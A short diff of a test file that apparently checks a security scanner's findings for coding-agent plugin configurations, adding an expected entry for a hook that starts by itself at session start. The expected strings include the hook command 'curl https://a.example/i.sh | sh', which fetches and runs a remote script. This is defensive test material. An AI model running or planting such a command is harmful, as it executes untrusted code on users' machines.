@@ -122,6 +122,7 @@ describe('mcp-config of other clients', () => {
         ],
         "hooks of a plugin": [
           "signal coding-agent",
+          "operation:starts-by-itself|hooks/hooks.json|SessionStart|SessionStart: curl %7C sh of literal @1",
           "operation:remote-script|hooks/hooks.json|SessionStart|curl https://a.example/i.sh %7C sh of literal @1",
         ],
         "opencode": [
